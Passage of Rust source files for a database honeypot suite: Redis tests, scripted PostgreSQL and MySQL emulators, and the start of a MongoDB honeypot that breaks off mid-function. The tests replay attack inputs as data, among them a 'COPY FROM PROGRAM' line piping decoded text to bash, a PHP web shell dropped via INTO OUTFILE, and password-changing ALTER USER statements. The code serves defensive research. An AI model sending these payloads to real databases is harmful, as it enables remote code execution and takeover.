        assert!(text.contains("redis_version:5.0.7"));
        assert!(!text.contains("# Keyspace"));
        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO", "nonsense"]).await else {
            panic!();
        };
        assert!(info.is_empty());
        server.shutdown().await;
    }

    #[tokio::test]
    async fn echo_select_exists_and_config_get() {
        let (server, _store, _hp) = spawn(false).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        assert_eq!(
            roundtrip(&mut f, &["ECHO", "hello"]).await,
            RespValue::bulk("hello")
        );
        assert_eq!(
            roundtrip(&mut f, &["SELECT", "0"]).await,
            RespValue::Simple("OK".into())
        );
        assert_eq!(
            roundtrip(&mut f, &["EXISTS", "nope"]).await,
            RespValue::Integer(0)
        );
        let RespValue::Array(pairs) = roundtrip(&mut f, &["CONFIG", "GET", "dir"]).await else {
            panic!("expected config pairs");
        };
        assert_eq!(pairs[0], RespValue::bulk("dir"));
        assert_eq!(pairs[1], RespValue::bulk("/var/lib/redis"));
        // AUTH with no server password set: error, but credentials captured
        let reply = roundtrip(&mut f, &["AUTH", "secret123"]).await;
        assert!(matches!(reply, RespValue::Error(_)));
        // wrong-arity commands answer arity errors, not crashes
        let reply = roundtrip(&mut f, &["GET"]).await;
        assert!(matches!(reply, RespValue::Error(_)));
        server.shutdown().await;
    }

    #[tokio::test]
    async fn auth_guesses_are_credential_captures() {
        let (server, store, _hp) = spawn(false).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        roundtrip(&mut f, &["AUTH", "redis123"]).await;
        roundtrip(&mut f, &["AUTH", "acluser", "aclpass"]).await;
        server.shutdown().await;
        let logins: Vec<(String, String)> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::LoginAttempt {
                    username, password, ..
                } => Some((username, password)),
                _ => None,
            })
            .collect();
        assert_eq!(
            logins,
            vec![
                ("default".to_string(), "redis123".to_string()),
                ("acluser".to_string(), "aclpass".to_string()),
            ]
        );
    }

    #[tokio::test]
    async fn hello_answers_resp2_fallback() {
        let (server, _store, _hp) = spawn(false).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        let RespValue::Array(fields) = roundtrip(&mut f, &["HELLO"]).await else {
            panic!("expected HELLO map");
        };
        assert!(fields.contains(&RespValue::bulk("version")));
        assert!(fields.contains(&RespValue::bulk("5.0.7")));
        server.shutdown().await;
    }

    #[tokio::test]
    async fn unknown_commands_error_and_are_logged() {
        let (server, store, _hp) = spawn(false).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        let reply = roundtrip(&mut f, &["TOTALLYBOGUS", "arg1"]).await;
        assert_eq!(
            reply,
            RespValue::Error(
                "ERR unknown command `TOTALLYBOGUS`, with args beginning with: `arg1`, ".into()
            )
        );
        server.shutdown().await;
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len(),
            1
        );
    }
}
