//! Medium-interaction PostgreSQL honeypot (Sticky-Elephant-style).
//!
//! "A specialized 'handler' script to manage queries, which allows it to
//! respond to a wider range of queries. However, it doesn't execute
//! corresponding actions like a real database but provides a scripted
//! response" (§4.1). Two configurations per §4.2: `allow_login = true`
//! (default, anyone gets in) and `allow_login = false` (the restricted
//! variant that attracted twice the login attempts).

use crate::catalog;
use crate::logging::SessionLogger;
use crate::low::read_or_fault;
use decoy_net::error::NetResult;
use decoy_net::framed::Framed;
use decoy_net::proxy;
use decoy_net::server::{SessionCtx, SessionHandler, SessionStream};
use decoy_store::{EventStore, HoneypotId};
use decoy_wire::pgwire::{BackendMessage, FrontendMessage, PgServerCodec};
use std::sync::Arc;

/// The medium-interaction PostgreSQL honeypot.
pub struct StickyElephant {
    store: Arc<EventStore>,
    id: HoneypotId,
    allow_login: bool,
}

impl StickyElephant {
    /// `allow_login = true` reproduces the open default configuration;
    /// `false` the login-disabled variant.
    pub fn new(store: Arc<EventStore>, id: HoneypotId, allow_login: bool) -> Arc<Self> {
        Arc::new(StickyElephant {
            store,
            id,
            allow_login,
        })
    }
}

impl SessionHandler for StickyElephant {
    async fn handle(self: Arc<Self>, mut stream: SessionStream, ctx: SessionCtx) {
        let (proxied, initial) = match proxy::maybe_read_v1(&mut stream).await {
            Ok(pair) => pair,
            Err(_) => return,
        };
        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
        log.connect();
        if let Err(e) = self.session(stream, initial, &log).await {
            if e.is_peer_fault() {
                log.malformed(e.to_string());
            }
        }
        log.disconnect();
    }
}

impl StickyElephant {
    async fn session(
        &self,
        stream: SessionStream,
        initial: bytes::BytesMut,
        log: &SessionLogger,
    ) -> NetResult<()> {
        let mut framed = Framed::with_initial(stream, PgServerCodec::new(), initial);
        let mut user = String::new();
        let mut authed = false;
        loop {
            let msg = read_or_fault!(framed, log);
            match msg {
                FrontendMessage::SslRequest => {
                    framed.write_frame(&BackendMessage::SslRefused).await?;
                }
                FrontendMessage::Startup { params } => {
                    user = params
                        .iter()
                        .find(|(k, _)| k == "user")
                        .map(|(_, v)| v.clone())
                        .unwrap_or_default();
                    framed
                        .write_frame(&BackendMessage::AuthenticationCleartextPassword)
                        .await?;
                }
                FrontendMessage::Password(password) => {
                    if self.allow_login {
                        log.login(&user, &password, true);
                        authed = true;
                        framed
                            .write_frame(&BackendMessage::AuthenticationOk)
                            .await?;
                        for (name, value) in [
                            ("server_version", catalog::PG_SERVER_VERSION),
                            ("server_encoding", "UTF8"),
                            ("client_encoding", "UTF8"),
                        ] {
                            framed
                                .write_frame(&BackendMessage::ParameterStatus {
                                    name: name.into(),
                                    value: value.into(),
                                })
                                .await?;
                        }
                        framed
                            .write_frame(&BackendMessage::BackendKeyData {
                                pid: 24_601,
                                secret: 0x5eed_cafe,
                            })
                            .await?;
                        framed
                            .write_frame(&BackendMessage::ReadyForQuery { status: b'I' })
                            .await?;
                    } else {
                        log.login(&user, &password, false);
                        framed
                            .write_frame(&BackendMessage::auth_failed(&user))
                            .await?;
                        return Ok(());
                    }
                }
                FrontendMessage::Query(q) => {
                    log.command(&q);
                    if !authed {
                        framed
                            .write_frame(&BackendMessage::ErrorResponse {
                                severity: "FATAL".into(),
                                code: "08P01".into(),
                                message: "expected password response".into(),
                            })
                            .await?;
                        return Ok(());
                    }
                    for reply in scripted_response(&q) {
                        framed.write_frame(&reply).await?;
                    }
                    framed
                        .write_frame(&BackendMessage::ReadyForQuery { status: b'I' })
                        .await?;
                }
                FrontendMessage::Terminate => return Ok(()),
                FrontendMessage::CancelRequest { .. } => return Ok(()),
                FrontendMessage::Other { tag, body } => {
                    log.payload(&[&[tag], body.as_ref()].concat());
                    framed
                        .write_frame(&BackendMessage::ErrorResponse {
                            severity: "ERROR".into(),
                            code: "0A000".into(),
                            message: "extended query protocol not supported".into(),
                        })
                        .await?;
                    framed
                        .write_frame(&BackendMessage::ReadyForQuery { status: b'I' })
                        .await?;
                }
            }
        }
    }
}

/// The "handler script": scripted responses per statement shape. Nothing is
/// executed; responses are canned but protocol-correct, so attack scripts
/// (Kinsing's Listing 4, the privilege manipulation of Listing 13) receive
/// the success indications they expect.
pub fn scripted_response(query: &str) -> Vec<BackendMessage> {
    let trimmed = query.trim().trim_end_matches(';').trim();
    if trimmed.is_empty() {
        return vec![BackendMessage::EmptyQueryResponse];
    }
    let upper = trimmed.to_uppercase();
    let first_word = upper
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_string();
    match first_word.as_str() {
        "SELECT" => {
            if upper.contains("VERSION()") {
                vec![
                    BackendMessage::RowDescription {
                        columns: vec!["version".into()],
                    },
                    BackendMessage::DataRow {
                        values: vec![Some(catalog::PG_VERSION_BANNER.into())],
                    },
                    BackendMessage::CommandComplete {
                        tag: "SELECT 1".into(),
                    },
                ]
            } else if upper.contains("CURRENT_USER") || upper.contains("SESSION_USER") {
                vec![
                    BackendMessage::RowDescription {
                        columns: vec!["current_user".into()],
                    },
                    BackendMessage::DataRow {
                        values: vec![Some("postgres".into())],
                    },
                    BackendMessage::CommandComplete {
                        tag: "SELECT 1".into(),
                    },
                ]
            } else {
                // Generic SELECT (including the post-COPY read of Listing 4):
                // an empty, well-formed result set.
                vec![
                    BackendMessage::RowDescription {
                        columns: vec!["cmd_output".into()],
                    },
                    BackendMessage::CommandComplete {
                        tag: "SELECT 0".into(),
                    },
                ]
            }
        }
        "CREATE" => vec![BackendMessage::CommandComplete {
            tag: "CREATE TABLE".into(),
        }],
        "DROP" => vec![BackendMessage::CommandComplete {
            tag: "DROP TABLE".into(),
        }],
        "COPY" => vec![BackendMessage::CommandComplete {
            tag: "COPY 1".into(),
        }],
        "ALTER" => vec![BackendMessage::CommandComplete {
            tag: "ALTER ROLE".into(),
        }],
        "INSERT" => vec![BackendMessage::CommandComplete {
            tag: "INSERT 0 1".into(),
        }],
        "DELETE" => vec![BackendMessage::CommandComplete {
            tag: "DELETE 0".into(),
        }],
        "UPDATE" => vec![BackendMessage::CommandComplete {
            tag: "UPDATE 0".into(),
        }],
        "SET" | "BEGIN" | "COMMIT" | "ROLLBACK" => vec![BackendMessage::CommandComplete {
            tag: first_word.clone(),
        }],
        "SHOW" => vec![
            BackendMessage::RowDescription {
                columns: vec!["setting".into()],
            },
            BackendMessage::DataRow {
                values: vec![Some("on".into())],
            },
            BackendMessage::CommandComplete { tag: "SHOW".into() },
        ],
        _ => {
            let near = trimmed.split_whitespace().next().unwrap_or("?");
            vec![BackendMessage::syntax_error(near)]
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
    use decoy_net::time::Clock;
    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
    use decoy_wire::pgwire::PgClientCodec;
    use tokio::net::TcpStream;

    async fn spawn(allow_login: bool) -> (ServerHandle, Arc<EventStore>) {
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::Postgres,
            InteractionLevel::Medium,
            if allow_login {
                ConfigVariant::Default
            } else {
                ConfigVariant::LoginDisabled
            },
            0,
        );
        let hp = StickyElephant::new(store.clone(), id, allow_login);
        let server = Listener::bind(
            "127.0.0.1:0".parse().unwrap(),
            hp,
            ListenerOptions {
                max_sessions: 64,
                clock: Clock::simulated(),
                ..ListenerOptions::default()
            },
        )
        .await
        .unwrap();
        (server, store)
    }

    async fn login(
        framed: &mut Framed<TcpStream, PgClientCodec>,
        user: &str,
        password: &str,
    ) -> BackendMessage {
        framed
            .write_frame(&FrontendMessage::Startup {
                params: vec![("user".into(), user.into())],
            })
            .await
            .unwrap();
        assert_eq!(
            framed.read_frame().await.unwrap().unwrap(),
            BackendMessage::AuthenticationCleartextPassword
        );
        framed
            .write_frame(&FrontendMessage::Password(password.into()))
            .await
            .unwrap();
        framed.read_frame().await.unwrap().unwrap()
    }

    /// Read backend messages until ReadyForQuery, returning all of them.
    async fn until_ready(framed: &mut Framed<TcpStream, PgClientCodec>) -> Vec<BackendMessage> {
        let mut out = Vec::new();
        loop {
            let msg = framed.read_frame().await.unwrap().unwrap();
            let ready = matches!(msg, BackendMessage::ReadyForQuery { .. });
            out.push(msg);
            if ready {
                return out;
            }
        }
    }

    #[tokio::test]
    async fn open_config_grants_access_and_answers_queries() {
        let (server, store) = spawn(true).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, PgClientCodec::new());
        assert_eq!(
            login(&mut f, "postgres", "postgres").await,
            BackendMessage::AuthenticationOk
        );
        let rest = until_ready(&mut f).await;
        assert!(rest
            .iter()
            .any(|m| matches!(m, BackendMessage::ParameterStatus { .. })));
        f.write_frame(&FrontendMessage::Query("SELECT version();".into()))
            .await
            .unwrap();
        let msgs = until_ready(&mut f).await;
        let row = msgs
            .iter()
            .find_map(|m| match m {
                BackendMessage::DataRow { values } => values[0].clone(),
                _ => None,
            })
            .unwrap();
        assert!(row.contains("PostgreSQL 11.3"));
        server.shutdown().await;
        let logins =
            store.filter(|e| matches!(e.kind, EventKind::LoginAttempt { success: true, .. }));
        assert_eq!(logins.len(), 1);
    }

    #[tokio::test]
    async fn restricted_config_rejects_all_logins() {
        let (server, store) = spawn(false).await;
        for attempt in 0..3 {
            let stream = TcpStream::connect(server.local_addr()).await.unwrap();
            let mut f = Framed::new(stream, PgClientCodec::new());
            let reply = login(&mut f, "postgres", &format!("guess{attempt}")).await;
            let BackendMessage::ErrorResponse { code, .. } = reply else {
                panic!("expected rejection");
            };
            assert_eq!(code, "28P01");
        }
        server.shutdown().await;
        let logins =
            store.filter(|e| matches!(e.kind, EventKind::LoginAttempt { success: false, .. }));
        assert_eq!(logins.len(), 3);
    }

    #[tokio::test]
    async fn kinsing_listing4_sequence_succeeds_scripted() {
        let (server, store) = spawn(true).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, PgClientCodec::new());
        login(&mut f, "postgres", "x").await;
        until_ready(&mut f).await;
        let queries = [
            "DROP TABLE IF EXISTS deadbeefcafe1234;",
            "CREATE TABLE deadbeefcafe1234(cmd_output text);",
            "COPY deadbeefcafe1234 FROM PROGRAM 'echo aGk= | base64 -d | bash';",
            "SELECT * FROM deadbeefcafe1234;",
            "DROP TABLE IF EXISTS deadbeefcafe1234;",
        ];
        for q in queries {
            f.write_frame(&FrontendMessage::Query(q.into()))
                .await
                .unwrap();
            let msgs = until_ready(&mut f).await;
            assert!(
                !msgs.iter().any(|m| matches!(
                    m,
                    BackendMessage::ErrorResponse { severity, .. } if severity == "FATAL"
                )),
                "query {q:?} fatally failed"
            );
        }
        server.shutdown().await;
        // All five commands logged; hash masked identically for clustering.
        let cmds: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert_eq!(cmds.len(), 5);
        assert!(cmds[0].contains("<HASH>"), "{:?}", cmds[0]);
        assert_eq!(cmds[0], cmds[4]);
    }

    #[tokio::test]
    async fn privilege_manipulation_listing13() {
        let (server, store) = spawn(true).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, PgClientCodec::new());
        login(&mut f, "postgres", "x").await;
        until_ready(&mut f).await;
        for q in [
            "ALTER USER pgg_superadmins WITH PASSWORD 'pwned'",
            "ALTER USER postgres WITH NOSUPERUSER",
        ] {
            f.write_frame(&FrontendMessage::Query(q.into()))
                .await
                .unwrap();
            let msgs = until_ready(&mut f).await;
            assert!(msgs.iter().any(
                |m| matches!(m, BackendMessage::CommandComplete { tag } if tag == "ALTER ROLE")
            ));
        }
        server.shutdown().await;
        assert_eq!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len(),
            2
        );
    }

    #[tokio::test]
    async fn gibberish_sql_gets_syntax_error_not_disconnect() {
        let (server, _store) = spawn(true).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, PgClientCodec::new());
        login(&mut f, "admin", "x").await;
        until_ready(&mut f).await;
        f.write_frame(&FrontendMessage::Query("FROBNICATE THE DATABASE".into()))
            .await
            .unwrap();
        let msgs = until_ready(&mut f).await;
        assert!(msgs.iter().any(|m| matches!(
            m,
            BackendMessage::ErrorResponse { code, .. } if code == "42601"
        )));
        // connection still usable
        f.write_frame(&FrontendMessage::Query("SELECT 1".into()))
            .await
            .unwrap();
        until_ready(&mut f).await;
        server.shutdown().await;
    }

    #[tokio::test]
    async fn show_set_and_transaction_statements() {
        let (server, _store) = spawn(true).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, PgClientCodec::new());
        login(&mut f, "postgres", "x").await;
        until_ready(&mut f).await;
        for (q, expect_tag) in [
            ("BEGIN", "BEGIN"),
            ("SET search_path TO public", "SET"),
            ("COMMIT", "COMMIT"),
            ("SELECT current_user", "SELECT 1"),
        ] {
            f.write_frame(&FrontendMessage::Query(q.into()))
                .await
                .unwrap();
            let msgs = until_ready(&mut f).await;
            assert!(
                msgs.iter().any(|m| matches!(
                    m,
                    BackendMessage::CommandComplete { tag } if tag == expect_tag
                )),
                "query {q} missing tag {expect_tag}: {msgs:?}"
            );
        }
        // SHOW answers a single-row result
        f.write_frame(&FrontendMessage::Query("SHOW ssl".into()))
            .await
            .unwrap();
        let msgs = until_ready(&mut f).await;
        assert!(msgs
            .iter()
            .any(|m| matches!(m, BackendMessage::DataRow { .. })));
        server.shutdown().await;
    }

    #[test]
    fn scripted_response_shapes() {
        assert!(matches!(
            scripted_response("")[0],
            BackendMessage::EmptyQueryResponse
        ));
        assert!(matches!(
            scripted_response("BEGIN")[0],
            BackendMessage::CommandComplete { .. }
        ));
        assert_eq!(scripted_response("SHOW ssl").len(), 3);
        assert!(matches!(
            scripted_response("blargh")[0],
            BackendMessage::ErrorResponse { .. }
        ));
    }
}
