//! Medium-interaction MySQL honeypot — an *extension* beyond the paper's
//! Table 4 deployment.
//!
//! The paper's discussion (§7) concludes that "deploying DBMS-specific
//! honeypots with deeper interaction capabilities is a promising approach",
//! and its related work (Ma et al., Wegerer & Tjoa, Hu et al.) is entirely
//! about deeper MySQL honeypots. This module supplies that capability in
//! the same style as the Sticky-Elephant PostgreSQL emulator: accept any
//! login (capturing the credentials as a *successful* attempt), then answer
//! `COM_QUERY` with scripted, protocol-correct result sets so SQL attack
//! scripts keep talking.

use crate::catalog;
use crate::logging::SessionLogger;
use crate::low::read_or_fault;
use bytes::{BufMut, BytesMut};
use decoy_net::cursor::sat_u8;
use decoy_net::error::NetResult;
use decoy_net::framed::Framed;
use decoy_net::proxy;
use decoy_net::server::{SessionCtx, SessionHandler, SessionStream};
use decoy_store::{EventStore, HoneypotId};
use decoy_wire::mysql::{self, MySqlCodec, MySqlPacket};
use std::sync::Arc;
use std::time::Duration;

/// The medium-interaction MySQL honeypot.
pub struct MySqlHoneypot {
    store: Arc<EventStore>,
    id: HoneypotId,
}

impl MySqlHoneypot {
    /// Create an instance logging into `store`.
    pub fn new(store: Arc<EventStore>, id: HoneypotId) -> Arc<Self> {
        Arc::new(MySqlHoneypot { store, id })
    }
}

impl SessionHandler for MySqlHoneypot {
    async fn handle(self: Arc<Self>, mut stream: SessionStream, ctx: SessionCtx) {
        // MySQL is server-speaks-first; the PROXY sniff needs a deadline.
        let sniff = proxy::maybe_read_v1_deadline(&mut stream, Duration::from_millis(1500)).await;
        let (proxied, initial) = match sniff {
            Ok(pair) => pair,
            Err(_) => return,
        };
        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
        log.connect();
        if let Err(e) = self.session(stream, initial, &log).await {
            if e.is_peer_fault() {
                log.malformed(e.to_string());
            }
        }
        log.disconnect();
    }
}

impl MySqlHoneypot {
    async fn session(
        &self,
        stream: SessionStream,
        initial: bytes::BytesMut,
        log: &SessionLogger,
    ) -> NetResult<()> {
        let mut framed = Framed::with_initial(stream, MySqlCodec, initial);
        let mut auth_data = [0u8; 20];
        for (i, b) in auth_data.iter_mut().enumerate() {
            *b = 0x23 + sat_u8((i * 11) % 60);
        }
        framed
            .write_frame(&MySqlPacket {
                seq: 0,
                payload: mysql::Greeting::honeypot_default(42_042, auth_data).build(),
            })
            .await?;

        // login phase: accept anything
        let login_pkt = read_or_fault!(framed, log);
        let seq = match mysql::LoginRequest::parse(&login_pkt.payload) {
            Ok(login) => {
                log.login(&login.username, &login.password_observed(), true);
                framed
                    .write_frame(&MySqlPacket {
                        seq: login_pkt.seq.wrapping_add(1),
                        payload: mysql::build_ok(),
                    })
                    .await?;
                0
            }
            Err(_) => {
                log.payload(&login_pkt.payload);
                return Ok(());
            }
        };
        let _ = seq;

        // command phase
        loop {
            let packet = read_or_fault!(framed, log);
            match mysql::parse_command(&packet.payload) {
                Ok(mysql::MySqlCommand::Quit) => return Ok(()),
                Ok(mysql::MySqlCommand::Ping) => {
                    framed
                        .write_frame(&MySqlPacket {
                            seq: 1,
                            payload: mysql::build_ok(),
                        })
                        .await?;
                }
                Ok(mysql::MySqlCommand::Query(sql)) => {
                    log.command(&sql);
                    for pkt in scripted_result(&sql) {
                        framed.write_frame(&pkt).await?;
                    }
                }
                Ok(mysql::MySqlCommand::Other(op, body)) => {
                    log.payload(&[&[op], body.as_ref()].concat());
                    framed
                        .write_frame(&MySqlPacket {
                            seq: 1,
                            payload: mysql::build_err(1047, "08S01", "Unknown command"),
                        })
                        .await?;
                }
                Err(_) => {
                    log.payload(&packet.payload);
                    return Ok(());
                }
            }
        }
    }
}

/// Encode one text-protocol result set with a single column and row.
fn single_value_result(column: &str, value: &str) -> Vec<MySqlPacket> {
    let mut out = Vec::new();
    // column count
    out.push(MySqlPacket {
        seq: 1,
        payload: vec![1].into(),
    });
    // column definition (catalog "def", empty schema/table, name, type var_string)
    let mut def = BytesMut::new();
    for s in ["def", "", "", "", column, ""] {
        def.put_u8(sat_u8(s.len()));
        def.extend_from_slice(s.as_bytes());
    }
    def.put_u8(0x0c); // fixed fields length
    def.put_u16_le(0xff); // charset
    def.put_u32_le(1024); // column length
    def.put_u8(0xfd); // type VAR_STRING
    def.put_u16_le(0); // flags
    def.put_u8(0); // decimals
    def.put_u16_le(0); // filler
    out.push(MySqlPacket {
        seq: 2,
        payload: def.freeze(),
    });
    // EOF (pre-deprecate form keeps old clients happy)
    out.push(MySqlPacket {
        seq: 3,
        payload: vec![0xfe, 0, 0, 0x02, 0].into(),
    });
    // row
    let mut row = BytesMut::new();
    row.put_u8(sat_u8(value.len()));
    row.extend_from_slice(value.as_bytes());
    out.push(MySqlPacket {
        seq: 4,
        payload: row.freeze(),
    });
    // EOF
    out.push(MySqlPacket {
        seq: 5,
        payload: vec![0xfe, 0, 0, 0x02, 0].into(),
    });
    out
}

/// Scripted answers, Sticky-Elephant style: protocol-correct canned results
/// per statement shape, executing nothing.
pub fn scripted_result(sql: &str) -> Vec<MySqlPacket> {
    let upper = sql.trim().to_uppercase();
    if upper.contains("@@VERSION") || upper.starts_with("SELECT VERSION") {
        return single_value_result("@@version", catalog::MYSQL_VERSION);
    }
    if upper.starts_with("SELECT DATABASE()") {
        return single_value_result("database()", "app_production");
    }
    if upper.starts_with("SHOW DATABASES") {
        return single_value_result("Database", "app_production");
    }
    if upper.starts_with("SELECT") || upper.starts_with("SHOW") {
        return single_value_result("value", "");
    }
    if upper.starts_with("CREATE")
        || upper.starts_with("DROP")
        || upper.starts_with("INSERT")
        || upper.starts_with("UPDATE")
        || upper.starts_with("DELETE")
        || upper.starts_with("SET")
        || upper.starts_with("GRANT")
        || upper.starts_with("ALTER")
        || upper.starts_with("USE")
    {
        return vec![MySqlPacket {
            seq: 1,
            payload: mysql::build_ok(),
        }];
    }
    // 1064 with the full manual clause real servers send — truncating it
    // was a probe-visible tell (catalog keeps the honeypots and the
    // fingerprint corpus on the same string).
    let near: String = sql.chars().take(24).collect();
    let mut msg = String::new();
    let _ = catalog::mysql_syntax_error(&mut msg, &near);
    vec![MySqlPacket {
        seq: 1,
        payload: mysql::build_err(1064, "42000", &msg),
    }]
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
    use decoy_net::time::Clock;
    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
    use tokio::net::TcpStream;

    async fn spawn_med() -> (ServerHandle, Arc<EventStore>) {
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::MySql,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        let hp = MySqlHoneypot::new(store.clone(), id);
        let server = Listener::bind(
            "127.0.0.1:0".parse().unwrap(),
            hp,
            ListenerOptions {
                max_sessions: 64,
                clock: Clock::simulated(),
                ..ListenerOptions::default()
            },
        )
        .await
        .unwrap();
        (server, store)
    }

    async fn login(addr: std::net::SocketAddr) -> Framed<TcpStream, MySqlCodec> {
        let stream = TcpStream::connect(addr).await.unwrap();
        let mut framed = Framed::new(stream, MySqlCodec);
        let greeting = framed.read_frame().await.unwrap().unwrap();
        mysql::Greeting::parse(&greeting.payload).unwrap();
        framed
            .write_frame(&MySqlPacket {
                seq: greeting.seq.wrapping_add(1),
                payload: mysql::LoginRequest::cleartext("root", "toor", Some("mysql")).build(),
            })
            .await
            .unwrap();
        let ok = framed.read_frame().await.unwrap().unwrap();
        assert_eq!(ok.payload[0], 0x00, "login accepted");
        framed
    }

    #[tokio::test]
    async fn accepts_login_and_answers_version_query() {
        let (server, store) = spawn_med().await;
        let mut framed = login(server.local_addr()).await;
        let mut q = vec![0x03];
        q.extend_from_slice(b"SELECT @@version");
        framed
            .write_frame(&MySqlPacket {
                seq: 0,
                payload: q.into(),
            })
            .await
            .unwrap();
        // column count, def, EOF, row, EOF
        let mut packets = Vec::new();
        for _ in 0..5 {
            packets.push(framed.read_frame().await.unwrap().unwrap());
        }
        let row = &packets[3];
        assert!(String::from_utf8_lossy(&row.payload).contains("8.0.36"));
        server.shutdown().await;
        let logins =
            store.filter(|e| matches!(e.kind, EventKind::LoginAttempt { success: true, .. }));
        assert_eq!(logins.len(), 1);
        let cmds = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw == "SELECT @@version"),
        );
        assert_eq!(cmds.len(), 1);
    }

    #[tokio::test]
    async fn ddl_statements_get_ok_and_injections_are_logged() {
        let (server, store) = spawn_med().await;
        let mut framed = login(server.local_addr()).await;
        // the SQL-injection-style write-up of Ma et al.: INTO OUTFILE drops
        let attack = "SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/shell.php'";
        let mut q = vec![0x03];
        q.extend_from_slice(attack.as_bytes());
        framed
            .write_frame(&MySqlPacket {
                seq: 0,
                payload: q.into(),
            })
            .await
            .unwrap();
        // SELECT answers a result set (5 packets)
        for _ in 0..5 {
            framed.read_frame().await.unwrap().unwrap();
        }
        let mut q = vec![0x03];
        q.extend_from_slice(b"CREATE TABLE pwn(cmd text)");
        framed
            .write_frame(&MySqlPacket {
                seq: 0,
                payload: q.into(),
            })
            .await
            .unwrap();
        let reply = framed.read_frame().await.unwrap().unwrap();
        assert_eq!(reply.payload[0], 0x00, "DDL acknowledged");
        server.shutdown().await;
        let cmds = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.contains("INTO OUTFILE")),
        );
        assert_eq!(cmds.len(), 1, "injection attempt captured");
    }

    #[tokio::test]
    async fn gibberish_sql_gets_1064() {
        let (server, _store) = spawn_med().await;
        let mut framed = login(server.local_addr()).await;
        let mut q = vec![0x03];
        q.extend_from_slice(b"FROBNICATE ALL THE THINGS");
        framed
            .write_frame(&MySqlPacket {
                seq: 0,
                payload: q.into(),
            })
            .await
            .unwrap();
        let reply = framed.read_frame().await.unwrap().unwrap();
        let (code, msg) = mysql::parse_err(&reply.payload).unwrap();
        assert_eq!(code, 1064);
        assert!(msg.contains("SQL syntax"));
        assert!(msg.contains("check the manual"), "real 1064 manual clause");
        assert!(msg.ends_with("at line 1"));
        // connection still usable
        let mut q = vec![0x03];
        q.extend_from_slice(b"SELECT 1");
        framed
            .write_frame(&MySqlPacket {
                seq: 0,
                payload: q.into(),
            })
            .await
            .unwrap();
        framed.read_frame().await.unwrap().unwrap();
        server.shutdown().await;
    }
}
