//! High-interaction MongoDB honeypot.
//!
//! Unlike the scripted medium honeypots, this one fronts a *real* document
//! store ([`DocDb`]): attackers genuinely enumerate databases, read the fake
//! Mockaroo customer data, delete collections, and insert ransom notes —
//! the full §6.3 kill chain. The wire side speaks `OP_MSG` and the legacy
//! `OP_QUERY` handshake scanners still use.

use crate::catalog;
use crate::logging::SessionLogger;
use crate::low::read_or_fault;
use decoy_fakedata::FakeDataGenerator;
use decoy_net::cursor::sat_i32;
use decoy_net::error::NetResult;
use decoy_net::framed::Framed;
use decoy_net::proxy;
use decoy_net::server::{SessionCtx, SessionHandler, SessionStream};
use decoy_store::docdb::DocDb;
use decoy_store::{EventStore, HoneypotId};
use decoy_wire::mongo::bson::{doc, Bson, Document};
use decoy_wire::mongo::{MongoBody, MongoCodec, MongoMessage};
use std::sync::Arc;

/// The high-interaction MongoDB honeypot.
pub struct MongoHoneypot {
    store: Arc<EventStore>,
    id: HoneypotId,
    db: Arc<DocDb>,
}

impl MongoHoneypot {
    /// An instance backed by an existing engine.
    pub fn with_db(store: Arc<EventStore>, id: HoneypotId, db: Arc<DocDb>) -> Arc<Self> {
        Arc::new(MongoHoneypot { store, id, db })
    }

    /// The paper's configuration: fake customer data (names, addresses,
    /// phone numbers, credit cards) generated from `seed`.
    pub fn with_fake_customers(
        store: Arc<EventStore>,
        id: HoneypotId,
        seed: u64,
        count: usize,
    ) -> Arc<Self> {
        let db = Arc::new(DocDb::new());
        let mut generator = FakeDataGenerator::new(seed);
        let docs: Vec<Document> = generator
            .customers(count)
            .into_iter()
            .map(|c| {
                doc! {
                    "name" => c.name,
                    "address" => c.address,
                    "city" => c.city,
                    "phone" => c.phone,
                    "credit_card" => c.credit_card,
                    "email" => c.email,
                }
            })
            .collect();
        db.insert("customers", "records", docs);
        db.insert(
            "admin",
            "system.version",
            vec![doc! { "_id" => "featureCompatibilityVersion", "version" => "4.4" }],
        );
        Self::with_db(store, id, db)
    }

    /// The backing engine (forensics and tests).
    pub fn db(&self) -> &Arc<DocDb> {
        &self.db
    }

    /// Execute one command document, returning the reply document.
    fn execute(&self, cmd: &Document, log: &SessionLogger) -> Document {
        let Some(name) = cmd.keys().next().map(str::to_string) else {
            return error_reply(40415, "empty command document");
        };
        let db_name = cmd.get_str("$db").unwrap_or("admin").to_string();
